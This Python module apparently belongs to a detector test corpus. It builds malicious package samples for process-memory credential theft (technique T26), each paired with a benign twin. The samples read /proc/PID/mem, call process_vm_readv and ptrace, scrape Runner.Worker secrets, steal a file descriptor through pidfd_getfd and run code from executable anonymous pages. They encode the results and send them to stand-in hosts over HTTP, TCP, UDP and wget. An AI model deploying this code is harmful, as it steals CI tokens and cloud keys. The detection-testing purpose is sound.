"""T26: reaches into the memory of processes (MITRE ATT&CK T1003.007, T1055.008, T1055.009).

Known from the tj-actions and Trivy incidents (a script that finds the runner's worker and reads its
secrets out of /proc/PID/mem, then encodes them twice), from loaders that run machine code out of
anonymous pages, from ptrace injectors. Here only a child that was made for it is read or changed, and
it holds decoys. The twins look at their own memory, or at what anybody may see of a process.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import MAIN, command, hook, package, setup, submodule

CHILD = """
import ctypes, signal, time

def _child(secret):
    pid = os.fork()
    if pid == 0:
        kept = ctypes.create_string_buffer(secret)
        time.sleep(8)
        os._exit(len(kept) > 1 << 20)
    time.sleep(0.3)
    return pid

def _end(pid):
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)

def _areas(pid):
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            span, rights, *rest = line.split()
            if rights.startswith("rw") and (len(rest) < 4 or rest[3].startswith(("[heap", "[stack"))):
                start, end = (int(part, 16) for part in span.split("-"))
                yield start, min(end, start + (8 << 20))

def _secret():
    return b"secret=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "reenact-marker").encode()
"""

DUMP = (
    CHILD
    + """
import base64, re, urllib.request
"""
)
DUMP_READS = """
found, pid = set(), _child(_secret())
try:
    with open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for start, end in _areas(pid):
            try:
                memory.seek(start)
                found.update(re.findall(rb"secret=[\\x21-\\x7e]{8,120}", memory.read(end - start)))
            except (OSError, ValueError, OverflowError):
                continue
except OSError:
    pass
_end(pid)
twice = base64.b64encode(base64.b64encode(b"\\n".join(sorted(found))))
try:
    urllib.request.urlopen("http://203.0.113.26/memdump", data=twice, timeout=5).read()
except OSError:
    pass
"""
DUMP_LOOKS = """
total = sum(end - start for start, end in _areas(os.getpid()))
with open("/proc/self/status") as file:
    peak = re.search("VmHWM:\\\\s*(\\\\d+)", file.read())
return total, peak and peak.group(1)
"""

VECTOR = (
    CHILD
    + """
import re

class Span(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def _read(pid, address, length):
    libc = ctypes.CDLL(None, use_errno=True)
    page = ctypes.create_string_buffer(length)
    here = Span(ctypes.cast(page, ctypes.c_void_p), length)
    there = Span(ctypes.c_void_p(address), length)
    libc.process_vm_readv.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_void_p,
                                      ctypes.c_ulong, ctypes.c_ulong]
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    got = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return page.raw[:max(got, 0)]
"""
)
VECTOR_READS = """
pid, found = _child(_secret()), b""
for start, end in _areas(pid):
    for at in range(start, end, 1 << 16):
        block = _read(pid, at, min(1 << 16, end - at))
        hit = re.search(rb"secret=[\\w/+-]{8,120}", block)
        if hit is not None:
            found = hit.group()
_end(pid)
masked = bytes(byte ^ 0x21 for byte in found)
try:
    with socket.create_connection(("198.51.100.26", 4040), timeout=5) as link:
        link.sendall(masked)
except OSError:
    pass
return len(masked)
"""
VECTOR_LOOKS = """
own = ctypes.create_string_buffer(b"secret=of its own")
return len(_read(os.getpid(), ctypes.addressof(own), len(own)))
"""
VECTOR_CLASS = """
class Profiler:
    def sample(self, rate=100):
        if ACT:
            return THE_ACT(rate)
        return 0
"""

TRACE = (
    CHILD
    + """
PEEK_DATA, POKE_DATA, GET_REGISTERS, ATTACH, DETACH = 2, 5, 12, 16, 17

def _trace(request, pid, address=0, data=0):
    libc = ctypes.CDLL("libc.so.6", use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
    return libc.ptrace(request, pid, address, data)
"""
)
TRACE_INJECTS = """
pid = _child(_secret())
if _trace(ATTACH, pid) == 0:
    os.waitpid(pid, 0)
    registers = ctypes.create_string_buffer(512)
    _trace(GET_REGISTERS, pid, 0, ctypes.addressof(registers))
    for start, _ in _areas(pid):
        word = _trace(PEEK_DATA, pid, start)
        _trace(POKE_DATA, pid, start, ctypes.c_void_p(word).value or 0)
    _trace(DETACH, pid)
_end(pid)
"""
TRACE_LOOKS = """
pid = _child(b"nothing")
with open(f"/proc/{pid}/status") as file:
    traced = [line for line in file if line.startswith("TracerPid")]
_end(pid)
return traced, callable(_trace)
"""

WORKER = """
import gzip, json, re, signal, sys, time

CODE = '''
import os, time
kept = '{"value":"%s","isSecret":true}' % os.environ["KEPT"]
time.sleep(6)
'''

def _worker(text):
    child = subprocess.Popen(
        ["Runner.Worker", "-I", "-S", "-c", CODE], executable=sys.executable or "/usr/bin/python3",
        env={"KEPT": text},
    )
    time.sleep(0.5)
    return child

def _called(name):
    for entry in pathlib.Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if name in (entry / "cmdline").read_bytes():
                    yield int(entry.name)
            except OSError:
                continue
"""
WORKER_READS = """
child, found = _worker(os.environ.get("GITHUB_TOKEN", "reenact-marker")), b""
for pid in _called(b"Runner.Worker"):
    try:
        spans = pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines()
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for span in spans:
                match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", span)
                if match is None or "[v" in span:
                    continue
                start, end = int(match.group(1), 16), int(match.group(2), 16)
                try:
                    memory.seek(start)
                    block = memory.read(min(end - start, 4 << 20))
                except (OSError, ValueError, OverflowError):
                    continue
                for hit in re.findall(rb'"value":"([^"]{4,200})","isSecret":true', block):
                    found += hit + b"\\n"
    except OSError:
        continue
child.kill()
child.wait()
try:
    with socket.create_connection(("192.0.2.126", 8081), timeout=5) as link:
        link.sendall(gzip.compress(found))
except OSError:
    pass
"""
WORKER_LOOKS = """
child = _worker("nothing")
found = {pid: pathlib.Path(f"/proc/{pid}/comm").read_text() for pid in _called(b"Runner.Worker")}
child.kill()
child.wait()
return json.dumps(found), gzip.READ, signal.SIGKILL, re.escape("maps")
"""

PATCH = (
    CHILD
    + """
WORD = b"reenact-unpatched-word"

def _watched(pipe):
    word = ctypes.create_string_buffer(WORD)
    os.write(pipe, ctypes.addressof(word).to_bytes(8, "little"))
    for _ in range(30):
        time.sleep(0.1)
        if word.value != WORD:
            break
    os.write(pipe, word.value)
    os._exit(0)
"""
)
PATCH_WRITES = """
reader, writer = os.pipe()
pid = os.fork()
if pid == 0:
    _watched(writer)
address = int.from_bytes(os.read(reader, 8), "little")
try:
    memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    os.pwrite(memory, WORD[::-1], address)
    os.close(memory)
except OSError:
    pass
os.read(reader, 64)
os.waitpid(pid, 0)
"""
PATCH_PIPES = """
reader, writer = os.pipe()
pid = os.fork()
if pid == 0:
    _watched(writer)
os.read(reader, 8)
with open(f"/proc/{pid}/statm") as file:
    pages = file.read()
_end(pid)
return pages
"""

TOOLS = (
    CHILD
    + """
import re

def _run(*words):
    try:
        return subprocess.run(words, capture_output=True, timeout=8, stdin=subprocess.DEVNULL).stdout
    except (OSError, subprocess.SubprocessError):
        return b""
"""
)
TOOLS_READ = """
pid, found = _child(_secret()), []
_run("gdb", "-p", str(pid), "-batch", "-ex", "call (int)system(\\"true\\")")
_run("gcore", "-o", "/tmp/core", str(pid))
for start, end in list(_areas(pid))[:12]:
    pages = min((end - start) >> 12, 2048)
    block = _run("dd", f"if=/proc/{pid}/mem", "bs=4096", f"skip={start >> 12}", f"count={pages}")
    found += [hit.hex() for hit in re.findall(rb"secret=[\\w/+-]{8,120}", block)]
_end(pid)
for text in sorted(set(found))[:4]:
    _run("sh", "-c", 'exec wget -q -T 5 -t 1 -O /dev/null "http://198.51.100.126/?m=$0"', text)
print("done")
"""
TOOLS_LOOK = """
pid = _child(b"nothing")
print(len(_run("ps", "-o", "pid,rss,comm", "-p", str(pid))))
print(len(_run("dd", f"if=/proc/{pid}/statm", "bs=4096", "count=1")))
_end(pid)
"""

HANDLE = """
import ctypes, signal, time

PIDFD_OPEN, PIDFD_GETFD = 434, 438

def _call(number, *given):
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.syscall(ctypes.c_long(number), *(ctypes.c_long(one) for one in given))

def _holder(path):
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        handle = os.open(path, os.O_RDONLY)
        os.write(writer, bytes([handle]))
        time.sleep(5)
        os._exit(0)
    return pid, os.read(reader, 1)[0]
"""
HANDLE_TAKES = """
pid, number = _holder(HOME / ".config" / "pypoetry" / "auth.toml")
whose = _call(PIDFD_OPEN, pid, 0)
taken = _call(PIDFD_GETFD, whose, number, 0)
data = os.pread(taken, 4096, 0) if taken >= 0 else b""
if not data:
    try:
        data = pathlib.Path(f"/proc/{pid}/fd/{number}").read_bytes()
    except OSError:
        pass
os.kill(pid, signal.SIGKILL)
os.waitpid(pid, 0)
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    link.sendto(data[::-1], ("203.0.113.226", 5353))
except OSError:
    pass
link.close()
"""
HANDLE_WAITS = """
pid, number = _holder(__file__)
whose = _call(PIDFD_OPEN, pid, 0)
os.kill(pid, signal.SIGKILL)
os.waitpid(pid, 0)
if whose >= 0:
    os.close(whose)
return number, PIDFD_GETFD
"""
HANDLE_TAIL = 'if ACT and (os.environ.get("CI") or os.environ.get("BUILD_ID")):\n    THE_ACT()\n'

PAGES = """
import base64, ctypes, mmap, platform

CODE = base64.b64decode("uCoAAADD")

def _page(rights):
    return mmap.mmap(-1, mmap.PAGESIZE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, rights)
"""
PAGES_RUN = """
if platform.machine() != "x86_64":
    return 0
page = _page(mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
page.write(CODE)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
return ctypes.CFUNCTYPE(ctypes.c_int)(start)()
"""
PAGES_KEEP = """
if platform.machine() != "x86_64":
    return 0
page = _page(mmap.PROT_READ | mmap.PROT_WRITE)
page.write(CODE)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
return ctypes.string_at(start, len(CODE)), ctypes.CFUNCTYPE(ctypes.c_int), mmap.PROT_EXEC
"""

RECIPES = (
    Recipe(
        technique="T26",
        name="proc-mem",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.BASE64,
        files=package(acting(DUMP_READS, DUMP_LOOKS, head=DUMP)),
        twin_does="adds up its own memory",
    ),
    Recipe(
        technique="T26",
        name="vm-readv",
        phase=Phase.USE,
        channel=Channel.TCP,
        encoding=Encoding.XOR,
        files=package(acting(VECTOR_READS, VECTOR_LOOKS, VECTOR_CLASS, VECTOR)),
        twin_does="copies a buffer of its own process",
    ),
    Recipe(
        technique="T26",
        name="ptrace-poke",
        phase=Phase.INSTALL,
        channel=Channel.MEMORY,
        encoding=Encoding.NONE,
        kind=Kind.SDIST,
        files=setup(TRACE_INJECTS, TRACE_LOOKS, TRACE),
        twin_does="asks whether its child is traced",
    ),
    Recipe(
        technique="T26",
        name="runner-worker",
        phase=Phase.START,
        channel=Channel.TCP,
        encoding=Encoding.GZIP,
        files=hook(acting(WORKER_READS, WORKER_LOOKS, head=WORKER)),
        twin_does="looks up a child by its name",
    ),
    Recipe(
        technique="T26",
        name="mem-write",
        phase=Phase.IMPORT,
        channel=Channel.MEMORY,
        encoding=Encoding.REVERSED,
        files=submodule("inject", acting(PATCH_WRITES, PATCH_PIPES, head=PATCH)),
        twin_does="reads how many pages its child has",
    ),
    Recipe(
        technique="T26",
        name="dd-gcore",
        phase=Phase.USE,
        channel=Channel.PROCESS,
        encoding=Encoding.HEX,
        files=command(acting(TOOLS_READ, TOOLS_LOOK, MAIN, TOOLS)),
        twin_does="runs ps on its own child",
    ),
    Recipe(
        technique="T26",
        name="pidfd-getfd",
        phase=Phase.WAIT,
        channel=Channel.UDP,
        encoding=Encoding.REVERSED,
        files=package(acting(HANDLE_TAKES, HANDLE_WAITS, HANDLE_TAIL, HANDLE)),
        twin_does="holds its own child by a descriptor and ends it",
    ),
    Recipe(
        technique="T26",
        name="anonymous-code",
        phase=Phase.IMPORT,
        channel=Channel.MEMORY,
        encoding=Encoding.BASE64,
        files=submodule("native", acting(PAGES_RUN, PAGES_KEEP, head=PAGES)),
        twin_does="keeps the same bytes in pages that cannot be run",
        weak=True,  # every compiler at run time makes such pages and runs them
    ),
)
